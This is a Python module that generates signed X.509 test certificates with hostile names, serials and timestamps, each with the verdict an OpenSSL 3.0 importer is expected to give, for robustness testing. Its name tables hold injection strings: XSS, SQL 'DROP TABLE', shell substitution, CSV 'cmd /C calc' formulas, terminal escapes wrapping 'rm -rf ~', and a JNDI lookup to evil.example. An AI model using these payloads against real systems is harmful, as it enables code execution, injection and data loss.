"""Certificates with hostile names, numbers and times, written by hand and properly signed.

What a row says is what a sound importer on OpenSSL 3.0 makes of the file: `accept` is that it can
be read and that its leaf is this one; whether it has expired, or is trusted, is policy. HARD rows
leave no choice, SOFT ones may be refused by a policy that says why. A rejected row's note names the
code of the problem.

    rows = certificates.make(folder)             # writes the files, gives a dict a row
    der = certificates.certificate(subject=...)  # one of them, for any test
"""
import concurrent.futures
import functools
import hashlib
import os
import pathlib
import subprocess
import sys
import tempfile

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "pki"))

from der import (bits, bmp, boolean, context, context_primitive, generalized_time, ia5, integer,
                 null, octets, oid, printable, seq, set_of, t61, tlv, universal, utc_time, utf8)

CN, SERIAL, C, L, O, OU = "2.5.4.3", "2.5.4.5", "2.5.4.6", "2.5.4.7", "2.5.4.10", "2.5.4.11"
EMAIL, DC, UNKNOWN = "1.2.840.113549.1.9.1", "0.9.2342.19200300.100.1.25", "1.3.6.1.4.1.99999.7"
SAN, EXTENDED_KEY_USAGE = "2.5.29.17", "2.5.29.37"
ECDSA = {"sha256": "1.2.840.10045.4.3.2", "sha384": "1.2.840.10045.4.3.3"}
RSA = {"sha256": "1.2.840.113549.1.1.11", "sha1": "1.2.840.113549.1.1.5",
       "md5": "1.2.840.113549.1.1.4"}
DEFAULT_FROM, DEFAULT_TO = utc_time("240101000000Z"), utc_time("480101000000Z")


# the pieces of a certificate


@functools.lru_cache
def _folder():
    return tempfile.TemporaryDirectory(prefix="certroll-names.")


@functools.lru_cache
def key(kind="EC"):
    """The path of a private key, PEM."""
    path = pathlib.Path(_folder().name) / f"{kind}.key"
    options = {"EC": ["-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256"],
               "RSA": ["-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048"]}[kind]
    subprocess.run(["openssl", "genpkey", *options, "-out", path], check=True, capture_output=True)
    return path


@functools.lru_cache
def public_key(kind="EC"):
    return subprocess.run(["openssl", "pkey", "-in", key(kind), "-pubout", "-outform", "DER"],
                          check=True, capture_output=True).stdout


def sign(content, digest="sha256", kind="EC"):
    return subprocess.run(["openssl", "dgst", f"-{digest}", "-sign", key(kind)], check=True,
                          capture_output=True, input=content).stdout


def attribute(kind, value):
    """kind: dotted, or the DER of an OBJECT IDENTIFIER."""
    return seq(oid(kind) if isinstance(kind, str) else kind, value)


def name(*attributes):
    """(kind, value) pairs, each an RDN of its own."""
    return seq(*[set_of(attribute(kind, value)) for kind, value in attributes])


def common_name(value):
    return name((CN, value))


def extension(kind, content, critical=False):
    return seq(oid(kind), *([boolean(True)] if critical else []), octets(content))


def dns(value):
    return context_primitive(2, value if isinstance(value, bytes) else value.encode())


def alternative_names(*names):
    return extension(SAN, seq(*names))


def certificate(subject=None, *, issuer=None, serial=None, not_before=DEFAULT_FROM,
                not_after=DEFAULT_TO, extensions=(), version=context(0, integer(2)),
                digest="sha256", kind="EC", algorithm=None, outer=None, signature=None, extra=b""):
    """The DER of a certificate; every argument but the last ones is DER of its own."""
    algorithm = algorithm or _algorithm(digest, kind)
    subject = common_name(utf8("plain.example.com")) if subject is None else subject
    issuer = common_name(utf8("Hostile Test CA")) if issuer is None else issuer
    serial = integer(int.from_bytes(hashlib.sha256(subject).digest()[:8], "big") >> 1) \
        if serial is None else serial
    wrapped = context(3, seq(*extensions)) if extensions else b""
    content = seq(version, serial, algorithm, issuer, seq(not_before, not_after), subject,
                  public_key(kind), extra, wrapped)
    made = sign(content, digest, kind) if signature is None else signature
    return seq(content, outer or algorithm, bits(made))


def _algorithm(digest, kind):
    return seq(oid(RSA[digest]), null()) if kind == "RSA" else seq(oid(ECDSA[digest]))


# the names

TEXTS = {  # common names in a UTF8String, each valid in itself
    "cn-nul": ("good.example.com\0.evil.example", "a NUL inside must not cut the name"),
    "cn-nul-first": ("\0good.example.com", "a NUL at the start must not empty the name"),
    "cn-ctrl": ("".join(map(chr, range(1, 32))), "all C0 controls"),
    "cn-c1": ("x" + "".join(map(chr, range(0x80, 0xA0))) + "y", "all C1 controls"),
    "cn-del": ("a\x7f\x7fb", "DEL"),
    "cn-newline": ("a\nerror: everything is lost [expired]\nb", "forges a line"),
    "cn-cr": ("shown\rhidden", "writes over its own start"),
    "cn-crlf": ("a\r\nSet-Cookie: x=y\r\n\r\n<h1>", "splits a header"),
    "cn-tab": ("a\tb\t\tc", "tabs"),
    "cn-nel": ("a\x85b", "NEL ends a line"),
    "cn-line-separator": ("a\u2028b\u2029c", "line and paragraph separators"),
    "cn-vt-ff": ("a\vb\fc", "vertical tab and form feed"),
    "cn-backspace": ("evil\b\b\b\bgood", "writes over itself"),
    "cn-bell": ("\a\a\a", "bells"),
    "cn-esc-csi": ("\x1b[2J\x1b[1;1H\x1b[31mred", "clears the screen"),
    "cn-esc-title": ("\x1b]0;owned\x07", "sets the window's title"),
    "cn-esc-link": ("\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "a link (OSC 8)"),
    "cn-esc-clipboard": ("\x1b]52;c;ZXZpbA==\x07", "writes the clipboard (OSC 52)"),
    "cn-esc-paste": ("\x1b[201~rm -rf ~\n\x1b[200~", "ends a bracketed paste"),
    "cn-esc-report": ("\x1b[6n\x1b[c\x1bP$q\"p\x1b\\", "makes the terminal answer"),
    "cn-esc-conceal": ("\x1b[8mhidden\x1b[0m", "hidden text"),
    "cn-csi-c1": ("\x9b31m\x9d0;owned\x9c", "CSI and OSC of one character"),
    "cn-bidi-override": ("exe.\u202egpj.moc\u202c", "turned round"),
    "cn-bidi-embedding": ("\u202aa\u202bb\u202cc\u202dd", "embeddings that never end"),
    "cn-bidi-isolate": ("\u2066a\u2067b\u2068c\u2069", "isolates"),
    "cn-bidi-marks": ("a\u200eb\u200fc\u061cd", "direction marks"),
    "cn-rtl": ("\u05d0\u05d1\u05d2 1234 \u0645\u0646", "honest letters that run to the left"),
    "cn-zero-width": ("pay\u200bpal\u200c\u200d\u2060.com", "zero width"),
    "cn-bom": ("\ufeffpaypal.com\ufeff", "byte order marks"),
    "cn-tags": ("a" + "".join(chr(0xE0000 + ord(c)) for c in "evil") + "\U000e007fb", "tags"),
    "cn-language-tag": ("a\U000e0001b", "the language tag"),
    "cn-variation": ("a\ufe0eb\ufe0fc\U000e0100d", "variation selectors"),
    "cn-soft-hyphen": ("pay\u00adpal", "soft hyphens"),
    "cn-filler": ("\u115f\u1160\u3164\uffa0", "Hangul fillers: a name that cannot be seen"),
    "cn-joiner": ("a\u034fb\u17b4c\u180ed", "what joins, and has no shape"),
    "cn-annotation": ("\ufff9a\ufffab\ufffb", "interlinear annotation"),
    "cn-notation": ("\U0001bca0\U0001d173a\U0001d17a\U00013430", "musical and other controls"),
    "cn-number-sign": ("\u0600\u06dd\u070f\u08e2\U000110bd", "signs that go round what follows"),
    "cn-private": ("\ue000\uf8ff\U000f0000\U0010fffd", "private use"),
    "cn-noncharacter": ("\ufdd0\ufffe\uffff\U0001fffe\U0010ffff", "noncharacters"),
    "cn-combining": ("Z" + "\u0335\u0489\u033f\u0353" * 50 + "algo", "marks upon marks"),
    "cn-combining-first": ("\u0338>\u0338<", "marks that join what stands before"),
    "cn-spaces": ("a\u00a0b\u2003c\u3000d\u2800e" + " " * 200 + "f", "spaces of all kinds"),
    "cn-edges": (" leading and trailing ", "spaces at the edges"),
    "cn-blank": ("   ", "nothing but spaces"),
    "cn-emoji": ("\U0001f511\U0001f469\u200d\U0001f4bb", "a key, and a joined emoji"),
    "cn-wide": ("\u8a3c\u660e\u66f8" * 30, "wide characters"),
    "cn-homograph": ("p\u0430yp\u0430l.com", "letters that only look the same"),
    "cn-html": ("<script>alert(1)</script>", "a script"),
    "cn-html-attribute": ("\" onmouseover=\"alert(1)\" x=\"", "leaves an attribute"),
    "cn-html-single": ("' onmouseover='alert(1)' x='", "leaves an attribute"),
    "cn-html-unquoted": ("x onload=alert(1) ", "a second attribute"),
    "cn-html-entity": ("&lt;b&gt; &#x3c;b&#62; &amp;amp; &nbsp", "entities"),
    "cn-html-comment": ("<!-- --!> -->", "comments"),
    "cn-html-cdata": ("<![CDATA[ ]]> <?php ?> <!DOCTYPE x>", "sections"),
    "cn-html-title": ("</title><h1>owned</h1>", "ends the title"),
    "cn-html-script": ("--></script><script>alert(1)</script><!--<script>", "ends a script"),
    "cn-html-style": ("</style><style>*{display:none}", "ends a style sheet"),
    "cn-html-end": ("</strong></dd></td></table></pre></textarea></main></body></html>", "ends"),
    "cn-html-image": ("<img src=x onerror=alert(1)>", "an image"),
    "cn-html-link": ("<a href=\"javascript:alert(1)\">x</a>", "a link"),
    "cn-html-meta": ("<meta http-equiv=refresh content='0;url=//evil.example'><base href=//e>", ""),
    "cn-html-svg": ("<svg/onload=alert(1)><math><mi xlink:href=\"data:x,<b>\">", ""),
    "cn-javascript": ("javascript:alert(1)//", "as a URL"),
    "cn-css": ("}*{display:none}/*", "as CSS"),
    "cn-json": ("\"}],\"kind\":\"Run\",\"x\":[{\"y\":\"", "leaves a JSON string"),
    "cn-json-backslash": ("\\\", \\\\\", \\u0000 \\", "escapes of JSON"),
    "cn-yaml": ("a: b\n- !!python/object:x {}\n---\n", "YAML"),
    "cn-csv": ("=cmd|' /C calc'!A0", "a formula"),
    "cn-csv-plus": ("+1+1;\"x\",\"y\"", "a formula"),
    "cn-csv-at": ("@SUM(1+1)*cmd|' /C calc'!A0", "a formula"),
    "cn-sql": ("'; DROP TABLE certificates; --", "SQL"),
    "cn-shell": ("$(touch owned) `touch owned` ; touch owned | & > owned", "a shell"),
    "cn-format": ("%s%s%n%p%99999999d %1$s %%", "format strings"),
    "cn-template": ("{{7*7}} ${7*7} #{7*7} <%= 7*7 %>", "templates"),
    "cn-lookup": ("${jndi:ldap://evil.example/a}", "a lookup"),
    "cn-path": ("../../../../etc/passwd", "a path"),
    "cn-path-absolute": ("/etc/passwd", "a path"),
    "cn-path-slashes": ("a/b//c/./d/", "slashes"),
    "cn-path-dots": ("..", "the folder above"),
    "cn-path-windows": ("C:\\Windows\\..\\con.txt", "a path"),
    "cn-dash": ("--store=/tmp/x", "an option"),
    "cn-rfc2253": ("a, O=b+C=c\\\"<>;#=", "what RFC 2253 escapes"),
    "cn-hash": ("#0c0141", "what RFC 2253 writes for bytes"),
    "cn-escapes": ("\\x1B \\u{202E} \\00 \\1B", "what looks like an escape and is none"),
    "cn-long": ("x" * 65, "longer than the upper bound"),
    "cn-100k": ("A" * 100_000, "100 kB"),
    "cn-100k-bidi": ("\u202e" * 34_000, "100 kB of overrides"),
    "cn-empty": ("", "no character at all"),
}

VALUES = {  # common names of other kinds: DER, verdict, note
    "cn-badutf8": (utf8(b"a\xff\xfeb"), "unreadable", "no UTF-8"),
    "cn-overlong": (utf8(b"a\xc0\xafb"), "unreadable", "an overlong slash"),
    "cn-utf8-cut": (utf8(b"abc\xe2\x82"), "unreadable", "cut off"),
    "cn-utf8-surrogate": (utf8(b"a\xed\xa0\x80b"), "unreadable", "a surrogate"),
    "cn-utf8-beyond": (utf8(b"a\xf4\x90\x80\x80b"), "unreadable", "beyond U+10FFFF"),
    "cn-t61": (t61("M\u00fcller \u009b2J \x1b[2J"), None, "T61String with controls of both kinds"),
    "cn-bmp": (bmp("M\u00fcller \u202e\x1b[2J\u2028"), None, "BMPString with overrides"),
    "cn-bmp-surrogate": (bmp(b"\0a\xd8\x00\0b"), "unreadable", "a lone surrogate"),
    "cn-bmp-pair": (bmp("a\U0001f511b"), "unreadable", "a surrogate pair: UTF-16, not UCS-2"),
    "cn-bmp-odd": (bmp(b"\0a\0"), "unreadable", "an odd number of bytes"),
    "cn-bmp-nul": (bmp("good.example\0.evil"), None, "NUL in a BMPString"),
    "cn-universal": (universal("M\u00fcller \U0001f511 \u202e\x1b[2J"), None, "UniversalString"),
    "cn-universal-surrogate": (universal(b"\0\0\xd8\x00"), "unreadable", "a surrogate"),
    "cn-universal-beyond": (universal(b"\0\x11\0\0"), "unreadable", "beyond U+10FFFF"),
    "cn-universal-odd": (universal(b"\0\0\0a\0"), "unreadable", "five bytes"),
    "cn-printable-ctrl": (printable(b"a\x1b[2J\nb\x7f<script>"), None, "PrintableString, is not"),
    "cn-printable-high": (printable(b"M\xfcller\x9b2J"), None, "PrintableString, is not ASCII"),
    "cn-ia5-high": (ia5(b"M\xc3\xbcller\x9b2J\x00x"), None, "IA5String, is not ASCII"),
    "cn-numeric": (tlv(0x12, b"1\x1b[2J"), None, "NumericString, is not"),
    "cn-visible": (tlv(0x1A, b"a\x1b[2J\x9bb"), "unreadable", "VisibleString, is not"),
    "cn-general": (tlv(0x1B, b"a\x1b[2J\x9bb"), "unreadable", "GeneralString"),
    "cn-octets": (octets(b"\x1b[2J\0x"), "unreadable", "an OCTET STRING for a name"),
    "cn-bits": (bits(b"\x1b[2J\0x"), None, "a BIT STRING for a name"),
    "cn-integer": (integer(-1), "unreadable", "an INTEGER for a name"),
    "cn-null": (null(), "unreadable", "NULL for a name"),
    "cn-sequence": (seq(utf8("\x1b[2J")), None, "a SEQUENCE for a name"),
    "cn-time": (utc_time("\x1b[2Jx"), "unreadable", "a time for a name"),
}


def _deep(depth):
    content = null()
    for _ in range(depth):
        content = seq(content)
    return content


def _names():
    """Whole names: DER, verdict, note."""
    escape, wild = "\x1b[2J\u202e", "<b>\"'&"
    many = [set_of(attribute(OU, utf8(f"unit {i} {wild}"))) for i in range(1000)]
    return {
        "o-ctrl": (name((O, utf8(f"Org {escape}")), (CN, utf8("o.example"))), None, ""),
        "ou-html": (name((OU, utf8(wild)), (CN, utf8("ou.example"))), None, ""),
        "l-newline": (name((L, utf8("Bern\n\n[expired]")), (CN, utf8("l.example"))), None, ""),
        "c-long": (name((C, printable("CH" * 50 + "\x1b")), (CN, utf8("c.example"))), None, ""),
        "email-ctrl": (name((EMAIL, ia5("a@b\r\nBcc: c@d\x1b[2J")), (CN, utf8("e"))), None, ""),
        "dc-path": (name((DC, ia5("../..")), (DC, ia5("/etc"))), None, ""),
        "serial-number-html": (name((SERIAL, printable("<i>1</i>"))), None, "2.5.4.5"),
        "dn-empty": (name(), None, "no name at all"),
        "dn-no-cn": (name((O, utf8("only an organisation"))), None, "no common name"),
        "dn-empty-set": (seq(tlv(0x31)), None, "an RDN without attributes"),
        "dn-1000": (seq(*many), None, "1,000 RDNs"),
        "dn-multi": (seq(set_of(attribute(CN, utf8("a")), attribute(O, utf8("b + CN=c")),
                                attribute(OU, utf8(escape)))), None, "one RDN of three"),
        "dn-same": (name(*[(CN, utf8(f"twin{i}.example")) for i in range(9)]), None, "nine CNs"),
        "dn-unknown-oid": (name((UNKNOWN, utf8(f"{escape}{wild}"))), None, "an unknown attribute"),
        "dn-oid-64k": (name((tlv(6, b"\x2a" + b"\x81" * 65_534 + b"\x01"), utf8("x"))), None,
                       "an attribute type of 64 kB"),
        "dn-oid-arc": (name((tlv(6, b"\x2a\x83" + b"\xff" * 40 + b"\x7f"), utf8("x"))), None,
                       "an arc of 300 bits"),
        "dn-oid-empty": (name((tlv(6), utf8("x"))), "unreadable", "an attribute type of no byte"),
        "dn-oid-cut": (name((tlv(6, b"\x55\x84"), utf8("x"))), "unreadable", "a type cut off"),
        "dn-deep": (name((CN, _deep(25))), None, "a nest of 25 for a name"),
    }


def _san_rows():
    """Content of the extension: DER, verdict, note, and what dns_names has to be."""
    long = ".".join(["x" * 300, "example", "com"])
    everything = [context_primitive(1, b"a@b\x1b[2J"), context_primitive(6, b"javascript:alert(1)"),
                  context_primitive(7, bytes(4)), context_primitive(7, bytes(16)),
                  context_primitive(8, b"\x2a\x03"), dns("last.example")]
    names = [f"host-{i:04}.example.com" for i in range(5000)]
    bad = b"a\x00b\x1b[2J\n\x7f\\x00\xe2\x80\xae\xff"
    return {
        "san-nul": (seq(dns(b"good.example.com\0.evil.example")), None, "",
                    ["good.example.com\\x00.evil.example"]),
        "san-nul-literal": (seq(dns(b"good.example.com\\x00.evil.example")), None, "no NUL at all",
                            ["good.example.com\\\\x00.evil.example"]),
        "san-ansi": (seq(dns(b"\x1b[2J\x1b]0;owned\x07.example")), None, "",
                     ["\\x1B[2J\\x1B]0;owned\\x07.example"]),
        "san-bytes": (seq(dns(bad)), None, "all kinds of bytes",
                      ["a\\x00b\\x1B[2J\\x0A\\x7F\\\\x00\\xE2\\x80\\xAE\\xFF"]),
        "san-newline": (seq(dns("a.example\nb.example")), None, "", ["a.example\\x0Ab.example"]),
        "san-wildcard": (seq(*map(dns, ["*", "*.example", "*.*.example", "a*b.example", "**"])),
                         None, "", ["*", "*.example", "*.*.example", "a*b.example", "**"]),
        "san-idn": (seq(dns("m\u00fcller.example")), None, "UTF-8 in an IA5String",
                    ["m\\xC3\\xBCller.example"]),
        "san-xn": (seq(dns("xn--mller-kva.example"), dns("xn--"), dns("xn--\u202e")), None, "",
                   ["xn--mller-kva.example", "xn--", "xn--\\xE2\\x80\\xAE"]),
        "san-spaces": (seq(dns("a b.example"), dns(" "), dns("a.example ")), None, "",
                       ["a b.example", " ", "a.example "]),
        "san-dots": (seq(dns("..."), dns("a..b"), dns("a.")), None, "", ["...", "a..b", "a."]),
        "san-path": (seq(dns("../../etc/passwd")), None, "", ["../../etc/passwd"]),
        "san-html": (seq(dns("<script>alert(1)</script>")), None, "",
                     ["<script>alert(1)</script>"]),
        "san-json": (seq(dns("\"],\"x\":[\"")), None, "", ["\"],\"x\":[\""]),
        "san-csv": (seq(dns("=cmd|' /C calc'!A0,b")), None, "", ["=cmd|' /C calc'!A0,b"]),
        "san-list": (seq(dns("a.example, DNS:b.example")), None, "forges a second name",
                     ["a.example, DNS:b.example"]),
        "san-long-label": (seq(dns(long)), None, "a label of 300", [long]),
        "san-5000": (seq(*map(dns, names)), None, "5,000 names", names),
        "san-empty": (seq(), None, "no names", []),
        "san-empty-name": (seq(dns(""), dns("b.example")), None, "", ["", "b.example"]),
        "san-kinds": (seq(*everything), None, "mail, URL, addresses", ["last.example"]),
        "san-ip-odd": (seq(context_primitive(7, bytes(5)), dns("b.example")), None, "five bytes",
                       ["b.example"]),
        "san-other": (seq(context(0, oid(UNKNOWN), context(0, utf8("\x1b[2J"))), dns("b.example")),
                      None, "otherName", ["b.example"]),
        "san-directory": (seq(context(4, common_name(utf8("\x1b[2J<b>"))), dns("b.example")), None,
                          "directoryName", ["b.example"]),
        "san-broken": (b"\x30\x82\xff\xff\x82", None, "cut off", []),
        "san-not-list": (utf8("a.example"), None, "no list", []),
        "san-trailing": (seq(dns("a.example")) + b"\0\0", None, "bytes behind", None),
    }


# the numbers and times

SERIALS = {
    "serial-negative": (integer(-1), None, "-01"),
    "serial-negative-long": (integer(-(1 << 159)), None, "-80" + "00" * 19),
    "serial-zero": (integer(0), None, "00"),
    "serial-one": (integer(1), None, "01"),
    "serial-20-high": (tlv(2, b"\0\xff" + b"\x01" * 19), None, "ff" + "01" * 19),
    "serial-20-negative": (tlv(2, b"\x80" + b"\x01" * 19), None, None),
    "serial-2000": (tlv(2, b"\x7f" * 2000), None, None),
    "serial-2000-negative": (tlv(2, b"\x80" * 2000), None, None),
    "serial-empty": (tlv(2), "unreadable", None),
    "serial-padded": (tlv(2, b"\0\0\x01"), "unreadable", None),
    "serial-string": (utf8("\x1b[2J"), "unreadable", None),
}

GOOD, ODD, BAD = "accept", "SOFT", "unreadable"
TIMES = {  # notAfter: verdict, and the instant that is shown
    "time-9999": (generalized_time("99991231235959Z"), GOOD, "9999-12-31T23:59:59Z"),
    "time-2038": (generalized_time("20380119031408Z"), ODD, "2038-01-19T03:14:08Z"),
    "time-2038-utc": (utc_time("380119031408Z"), GOOD, "2038-01-19T03:14:08Z"),
    "time-2106": (generalized_time("21060207062816Z"), GOOD, "2106-02-07T06:28:16Z"),
    "time-utc-49": (utc_time("491231235959Z"), GOOD, "2049-12-31T23:59:59Z"),
    "time-utc-50": (utc_time("500101000000Z"), GOOD, "1950-01-01T00:00:00Z"),
    "time-1900": (generalized_time("19000101000000Z"), ODD, "1900-01-01T00:00:00Z"),
    "time-0001": (generalized_time("00010101000000Z"), ODD, "0001-01-01T00:00:00Z"),
    "time-0000": (generalized_time("00000101000000Z"), ODD, "0000-01-01T00:00:00Z"),
    "time-expired": (utc_time("200101000000Z"), GOOD, "2020-01-01T00:00:00Z"),
    "time-leap": (generalized_time("24000229000000Z"), GOOD, "2400-02-29T00:00:00Z"),
    "time-no-leap": (generalized_time("21000229000000Z"), BAD, "29 February of a common year"),
    "time-fraction": (generalized_time("20600101000000.999Z"), ODD, "2060-01-01T00:00:00Z"),
    "time-fraction-long": (generalized_time("20600101000000." + "9" * 5000 + "Z"), ODD,
                           "2060-01-01T00:00:00Z"),
    "time-offset": (generalized_time("20600101000000+0130"), ODD, "2059-12-31T22:30:00Z"),
    "time-offset-utc": (utc_time("400101000000-0500"), ODD, "2040-01-01T05:00:00Z"),
    "time-offset-9999": (generalized_time("99991231235959-1200"), BAD, "in the year 10000"),
    "time-offset-huge": (generalized_time("20600101000000+9900"), BAD, "99 hours"),
    "time-no-seconds": (generalized_time("206001010000Z"), ODD, "2060-01-01T00:00:00Z"),
    "time-no-seconds-utc": (utc_time("4001010000Z"), ODD, "2040-01-01T00:00:00Z"),
    "time-no-zone": (generalized_time("20600101000000"), BAD, "local time"),
    "time-no-zone-utc": (utc_time("400101000000"), BAD, "local time"),
    "time-utc-10": (utc_time("4001010000"), BAD, "ten digits"),
    "time-day-alone": (generalized_time("20600101Z"), BAD, "no hour"),
    "time-month-13": (generalized_time("20601301000000Z"), BAD, "month 13"),
    "time-month-13-utc": (utc_time("401301000000Z"), BAD, "month 13"),
    "time-month-00": (generalized_time("20600001000000Z"), BAD, "month 0"),
    "time-day-00": (generalized_time("20600100000000Z"), BAD, "day 0"),
    "time-day-31": (generalized_time("20600231000000Z"), BAD, "31 February"),
    "time-hour-24": (generalized_time("20600101240000Z"), BAD, "hour 24"),
    "time-minute-60": (generalized_time("20600101006000Z"), BAD, "minute 60"),
    "time-second-60": (generalized_time("20600101000060Z"), BAD, "second 60"),
    "time-letters": (generalized_time("never expires!Z"), BAD, "letters"),
    "time-letters-utc": (utc_time("4OO1O1OOOOOOZ"), BAD, "letters for digits"),
    "time-empty": (generalized_time(""), BAD, "nothing"),
    "time-empty-utc": (utc_time(""), BAD, "nothing"),
    "time-negative": (generalized_time("-0010101000000Z"), BAD, "a sign"),
    "time-plus": (generalized_time("+2060101000000Z"), BAD, "a sign"),
    "time-spaces": (generalized_time(" 2060010100000Z"), BAD, "a space"),
    "time-year-5": (generalized_time("120600101000000Z"), BAD, "five digits of year"),
    "time-nul": (generalized_time(b"20600101000000Z\x00x"), BAD, "a NUL, and more"),
    "time-nul-inside": (generalized_time(b"2060\x000101000000Z"), BAD, "a NUL inside"),
    "time-trailing": (generalized_time("20600101000000Z0"), BAD, "a digit behind"),
    "time-escape": (generalized_time("\x1b[2J0101000000Z"), BAD, "an escape sequence"),
    "time-html": (utc_time("<b>4001010000</b>Z"), BAD, "markup"),
    "time-format": (generalized_time("%s%n01010000Z"), BAD, "a format string"),
    "time-digits": (generalized_time("9" * 10_000 + "Z"), BAD, "10,000 digits"),
    "time-arabic": (generalized_time("\u0662\u0660\u0666\u0660".encode() + b"0101000000Z"), BAD,
                    "digits of another script"),
    "time-bmp": (bmp("20600101000000Z"), BAD, "a BMPString for a time"),
    "time-utf8": (utf8("20600101000000Z"), BAD, "a UTF8String for a time"),
    "time-integer": (integer(2871763200), BAD, "an INTEGER for a time"),
    "time-null": (null(), BAD, "NULL for a time"),
}


def _others():
    """Versions, signatures, and what else has no name: a function that makes it, verdict, note."""
    pair = common_name(utf8("cert.example.com"))
    san = alternative_names(dns("cert.example.com"))
    early, late = generalized_time("20900101000000Z"), utc_time("250101000000Z")
    evil = name((O, utf8("\x1b[2J\u202e<script>")), (CN, utf8(b"CA\0x\n")))
    number = "4.5.6"
    return {
        "time-reversed": ({"not_before": early, "not_after": late}, ODD, "notAfter first"),
        "time-future": ({"not_before": early, "not_after": generalized_time("20990101000000Z")},
                        GOOD, "not yet valid"),
        "time-before-1900": ({"not_before": generalized_time("18000101000000Z")}, ODD, ""),
        "time-before-month": ({"not_before": utc_time("241301000000Z")}, BAD, "month 13"),
        "time-before-letters": ({"not_before": utc_time("since always")}, BAD, "letters"),
        "time-before-empty": ({"not_before": utc_time("")}, BAD, "nothing"),
        "time-both-empty": ({"not_before": utc_time(""), "not_after": utc_time("")}, BAD, ""),
        "issuer-ctrl": ({"issuer": evil}, GOOD, "only the issuer is hostile"),
        "issuer-empty": ({"issuer": name()}, GOOD, "no issuer"),
        "ver-1": ({"version": b""}, GOOD, "version 1"),
        "ver-1-explicit": ({"version": context(0, integer(0))}, ODD, "the default, written"),
        "ver-1-extensions": ({"version": b"", "extensions": [san]}, ODD, "version 1, extensions"),
        "ver-2": ({"version": context(0, integer(1))}, GOOD, "version 2"),
        "ver-7": ({"version": context(0, integer(6)), "extensions": [san]}, ODD, "version 7"),
        "ver-negative": ({"version": context(0, integer(-1))}, ODD, "version 0"),
        "ver-huge": ({"version": context(0, integer(1 << 4000))}, ODD, "version 2^4000"),
        "ossl-sha1": ({"digest": "sha1", "kind": "RSA"}, GOOD, "warning weak_signature"),
        "ossl-md5": ({"digest": "md5", "kind": "RSA"}, GOOD, "warning weak_signature"),
        "sig-mismatch": ({"outer": seq(oid(ECDSA["sha384"]))}, ODD, "two algorithms"),
        "sig-unknown": ({"algorithm": seq(oid(number))}, ODD, "an unknown algorithm"),
        "sig-wrong": ({"signature": bytes(70)}, ODD, "no signature of anybody"),
        "sig-empty": ({"signature": b""}, ODD, "empty"),
        "sig-huge": ({"signature": b"\xff" * 100_000}, ODD, "100 kB"),
        "ext-twice": ({"extensions": [san, alternative_names(dns("other.example.com"))]}, ODD,
                      "two lists of names: neither is used"),
        "ext-unknown-critical": ({"extensions": [extension(UNKNOWN, b"\x1b[2J", True)]}, ODD, ""),
        "ext-1000": ({"extensions": [extension(f"1.3.6.1.4.1.99999.{i}", b"\x1b") for i in
                                     range(1000)]}, GOOD, "1,000 extensions"),
        "ext-usage-broken": ({"extensions": [extension(EXTENDED_KEY_USAGE, b"\x1b[2J")]}, ODD, ""),
        "unique-ids": ({"version": context(0, integer(1)),
                        "extra": context_primitive(1, b"\0\x1b[2J")}, GOOD, "issuerUniqueID"),
        "plain": ({"subject": pair, "extensions": [san]}, GOOD, "nothing hostile at all"),
    }


def _all():
    """(slug, arguments of certificate(), verdict, note, what is expected to be shown)."""
    for slug, (text, note) in TEXTS.items():
        yield slug, {"subject": common_name(utf8(text))}, GOOD, note, {"text": text}
    for slug, (value, verdict, note) in VALUES.items():
        yield slug, {"subject": common_name(value)}, verdict or ODD, note, {}
    for slug, (whole, verdict, note) in _names().items():
        yield slug, {"subject": whole}, verdict or ODD, note, {}
    for slug, (content, verdict, note, dns_names) in _san_rows().items():
        arguments = {"subject": common_name(utf8(slug)), "extensions": [extension(SAN, content)]}
        yield slug, arguments, verdict or GOOD, note, {"dns_names": dns_names}
    for slug, (number, verdict, shown) in SERIALS.items():
        yield (slug, {"subject": common_name(utf8(slug)), "serial": number}, verdict or GOOD, "",
               {"serial": shown})
    for slug, (until, verdict, shown) in TIMES.items():
        told = {"not_after": shown} if verdict != BAD else {}
        early = generalized_time("00000101000000Z") if "000" in slug else DEFAULT_FROM
        yield (slug, {"subject": common_name(utf8(slug)), "not_before": early, "not_after": until},
               verdict, "" if told else shown, told)
    for slug, (arguments, verdict, note) in _others().items():
        yield slug, {"subject": common_name(utf8(slug)), **arguments}, verdict, note, {}


PITFALLS = (  # the trap that rows are for, by how their names begin
    ("26", ("cn-nul", "cn-bmp-nul", "san-nul")),
    ("28", tuple(VALUES)),
    ("29", ("serial-",)), ("30", ("time-",)), ("31", ("san-",)),
    ("33", ("ver-", "ossl-", "sig-", "ext-", "unique-", "plain")),
    ("27", ("",)))


def _pitfall(slug):
    return next(number for number, starts in PITFALLS if slug.startswith(starts))


def _row(slug, arguments, verdict, note, shown):
    der = certificate(**arguments)
    rejected = verdict == BAD
    kind = f"{'SOFT' if verdict == ODD else 'HARD'} #{_pitfall(slug)}"
    code = "code=unreadable" if rejected else ""
    said = "; ".join(filter(None, [kind, slug, note, code]))
    return {"file": f"x509/{slug}.cer", "format": "DER", "password": "<none>",
            "expected": "reject" if rejected else "accept",
            "leaf": "-" if rejected else hashlib.sha256(der).hexdigest(),
            "n_certs": 0 if rejected else 1, "has_key": 0, "note": said,
            "slug": slug, "arguments": arguments, "der": der, "shown": shown}


@functools.lru_cache
def rows():
    """All rows. Beside what make() gives: slug, der, the arguments that it was made with, and what
    it holds, as `shown`: text (of its CN), dns_names, serial and not_after as JSON has them."""
    key("EC"), key("RSA"), public_key("EC"), public_key("RSA")
    with concurrent.futures.ThreadPoolExecutor(os.cpu_count()) as pool:
        return list(pool.map(lambda each: _row(*each), list(_all())))


COLUMNS = ("file", "format", "password", "expected", "leaf", "n_certs", "has_key", "note")


def make(folder):
    """Writes the files below a folder. The rows, as the table of a corpus has them."""
    made = []
    for row in rows():
        path = pathlib.Path(folder) / row["file"]
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(row["der"])
        made.append({column: row[column] for column in COLUMNS})
    return made


if __name__ == "__main__":
    for each in make(sys.argv[1]):
        print("\t".join(str(each[column]) for column in COLUMNS))
